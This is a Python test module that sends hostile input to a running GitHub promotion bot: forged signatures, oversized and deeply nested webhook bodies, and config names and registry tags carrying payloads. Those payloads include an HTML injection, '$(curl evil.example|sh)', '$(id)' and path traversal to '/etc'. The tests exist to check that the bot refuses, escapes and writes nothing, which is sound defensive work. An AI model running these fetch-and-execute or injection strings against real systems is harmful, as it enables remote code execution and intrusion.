"""Hostile input against the real process: a clear refusal, nothing written, the bot healthy.

What the in-process tests already cover the same way is left to them (``tests/entrypoints``:
wrong and missing signatures and oversized bodies through an ASGI client; ``tests/e2e``: YAML
bombs, a 50 MB file and symbolic links in the environment repository, hostile command
arguments). Here: signatures GitHub never sends and bodies built to hurt, posted to the running
``promotion-bot serve``; tags and configs carrying YAML, Markdown, HTML and shell, and config
paths escaping the repository, pushed through the sandbox."""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from bot.demo.harness import Stack
from bot.entrypoints.webhooks import sign
from github_sandbox import admin_client as calls
from tests.e2e.harness import GENERIC_REGISTRY_TOKEN, Org, organisation
from tests.e2e.scenes import APP_REPO, CONFIG_FILE, directory_config, directory_repo
from tests.e2e.test_installations import push_to_generic_registry
from tests.reliability.figures import record
from tests.reliability.promotions import settle

PING = b'{"zen": "Keep it logically awesome.", "hook_id": 1}'
DEEP = b'{"image": ' + b"[" * 5000 + b"]" * 5000 + b"}"
OVER_GITHUB_LIMIT = 25 * (1 << 20) + 1  # GitHub caps a payload at 25 MB; the bot, by default


@dataclass(frozen=True)
class Request:
    """A request to the bot, and the refusal it must get."""

    path: str
    headers: dict[str, str]
    body: bytes
    status: int
    detail: str


def signed(secret: str, body: bytes, **replace: str | None) -> dict[str, str]:
    """GitHub's headers for ``body``, with ``replace`` (``None`` drops a header)."""
    sha1 = hmac.new(secret.encode(), body, hashlib.sha1).hexdigest()
    headers: dict[str, str | None] = {
        "Content-Type": "application/json",
        "X-GitHub-Event": "ping",
        "X-GitHub-Delivery": "hostile",
        "X-Hub-Signature-256": sign(secret.encode(), body),
        "X-Hub-Signature": f"sha1={sha1}",
    }
    headers |= {name.replace("_", "-"): value for name, value in replace.items()}
    return {name: value for name, value in headers.items() if value is not None}


def requests(secret: str) -> dict[str, Request]:
    github, registry = "/webhooks/github", "/webhooks/registry/generic"
    good = signed(secret, PING)
    registry_signed = {
        "Content-Type": "application/json",
        "X-Signature-256": sign(GENERIC_REGISTRY_TOKEN.encode(), DEEP),
    }
    big = b'{"zen": "' + b"x" * OVER_GITHUB_LIMIT + b'"}'
    return {
        "sha1 signature only": Request(
            github, signed(secret, PING, X_Hub_Signature_256=None), PING, 401, "X-Hub-Signature-256"
        ),
        "truncated signature": Request(
            github,
            good | {"X-Hub-Signature-256": good["X-Hub-Signature-256"][:40]},
            PING,
            401,
            "X-Hub-Signature-256",
        ),
        "sha1 digest as sha256": Request(
            github,
            good | {"X-Hub-Signature-256": "sha256=" + good["X-Hub-Signature"][5:]},
            PING,
            401,
            "X-Hub-Signature-256",
        ),
        "signature of another body": Request(
            github, signed(secret, b"{}"), PING, 401, "X-Hub-Signature-256"
        ),
        "body over 25 MB, signed": Request(github, signed(secret, big), big, 413, "too large"),
        "registry body nested 5,000 deep": Request(
            registry, registry_signed, DEEP, 400, "nested too deep"
        ),
    }


REQUESTS = sorted(requests("").keys())


@pytest.fixture(scope="module")
def watched(stack: Stack) -> Iterator[dict[str, int]]:
    """The bot's queue before the module's requests; after them, still healthy, nothing lost."""
    before = stack.bot.queue()
    yield before
    assert stack.bot.healthy()


@pytest.mark.parametrize("case", REQUESTS)
def test_a_hostile_request_is_refused_clearly_and_stores_nothing(
    stack: Stack, watched: dict[str, int], case: str
) -> None:
    request = requests(stack.app.webhook_secret)[case]
    deliveries = stack.bot.queue()["deliveries"]
    response = httpx.post(
        stack.bot.url + request.path, content=request.body, headers=request.headers, timeout=60
    )
    refused = (response.status_code, request.detail in response.json()["detail"])
    handled = refused == (request.status, True) and stack.bot.queue()["deliveries"] == deliveries
    record(f"hostile:{case}", tried=1, handled=int(handled and stack.bot.healthy()))
    assert refused == (request.status, True), response.text[:300]
    assert stack.bot.queue()["deliveries"] == deliveries
    assert stack.bot.healthy()


def hostile_config(org: str, case: str) -> str:
    """``directory_config`` with one hostile change."""
    config = directory_config(org)
    if case.startswith("app name"):
        return config.replace("  api:\n", f"  {json.dumps(NAMES[case])}:\n")
    return config.replace("path: envs/prod", f"path: {PATHS[case]}")


NAMES = {
    "app name with HTML": "<img src=x onerror=alert(1)>",
    "app name with Markdown": "[click](https://evil.example)",
    "app name with shell": "$(curl evil.example|sh)",
    "app name with YAML": "api: {image: evil}\n---",
}
PATHS = {
    "environment path escaping the repository": "../../etc",
    "environment path that is absolute": "/etc",
}
CONFIGS = sorted([*NAMES, *PATHS])
# What the config issue says (a hostile name itself is never in it unescaped).
NAME_ERROR = "a name: letters, digits"
PATH_ERROR = "path must be relative to the repository root"
# Tags a registry outside GitHub may send (accepted at the door, a signed push): none is a
# version, none is proposed.
TAGS = ["1.3.0\nimage: evil", "1.3.0 # <script>alert(1)</script>", "$(id)", "[1.3.0](http://x)"]


def test_hostile_configs_get_one_escaped_issue_and_no_write(stack: Stack) -> None:
    repos = {f"env{n}": directory_repo("hostile-config") for n in range(len(CONFIGS))}
    org = organisation(stack, "hostile-config", {**repos, "api": APP_REPO})
    for n, case in enumerate(CONFIGS):
        text = hostile_config(org.name, case)
        push = calls.push(org.name, f"env{n}", pusher=org.person, files={CONFIG_FILE: text})
        stack.admin.run(push)
    stack.admin.run(calls.publish_package(org.name, "api", repository="api", tag="1.3.0"))
    settle(stack, timeout=60.0)
    for n, case in enumerate(CONFIGS):
        repo = org.repo(f"env{n}")
        issues = org.view.get(f"/repos/{repo}/issues")
        why = NAME_ERROR if case in NAMES else PATH_ERROR
        handled = (
            len(issues) == 1
            and why in issues[0]["body"]
            and list(org.view.heads(repo)) == ["main"]
            and (case in PATHS or NAMES[case] not in issues[0]["body"])
        )
        record(f"hostile:{case}", tried=1, handled=int(handled and stack.bot.healthy()))
        assert handled, (
            case,
            [i["title"] for i in issues],
            list(org.view.heads(repo)),
            issues[0]["body"],
        )


def test_hostile_tags_are_never_proposed(stack: Stack) -> None:
    org = organisation(
        stack, "hostile-tags", {"env": directory_repo("hostile-tags"), "api": APP_REPO}
    )
    dead = stack.bot.queue()["dead"]
    for tag in TAGS:
        push_to_generic_registry(stack, f"ghcr.io/{org.name}/api", tag)
    settle(stack, timeout=60.0)
    handled = _nothing_written(org) and stack.bot.queue()["dead"] == dead and stack.bot.healthy()
    for tag in TAGS:
        record(f"hostile:tag {tag!r}", tried=1, handled=int(handled))
    assert _nothing_written(org)
    assert stack.bot.queue()["dead"] == dead


def _nothing_written(org: Org) -> bool:
    repo = org.repo("env")
    return list(org.view.heads(repo)) == ["main"] and not org.view.pulls(repo)
